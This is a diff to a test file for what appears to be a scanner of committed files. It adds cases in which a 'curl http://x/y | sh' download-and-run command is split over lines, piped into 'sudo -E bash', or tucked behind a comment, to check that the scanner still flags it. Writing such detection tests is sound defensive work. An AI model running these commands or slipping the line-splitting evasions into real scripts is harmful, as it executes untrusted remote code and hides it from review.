@@ -220,10 +220,13 @@ class TestHiding:
             ("run.sh", "\0\ncurl http://x/y | sh\n"),
             ("run.sh", "curl http://x/y \0| sh\n"),
             ("tool", "#!/bin/sh\n\0\ncurl http://x/y | sh\n"),
+            ("run.sh", "curl -s http://x/y \\\n  | sh\n"),
+            ("run.sh", "curl -s http://x/y |\n  sudo -E bash -\n"),
+            ("run.sh", "# all is well \\\ncurl http://x/y | sh\n"),
         ],
     )
     def test_a_command_does_not_hide(self, desk: GateCase, path: str, text: str) -> None:
-        """Hostile, 19: behind an `echo`, or beside a zero byte."""
+        """Hostile, 19: behind an `echo`, beside a zero byte, or over two lines."""
         desk.commit({path: text})
         assert blamed(desk.judged("scan")) == [path]
 
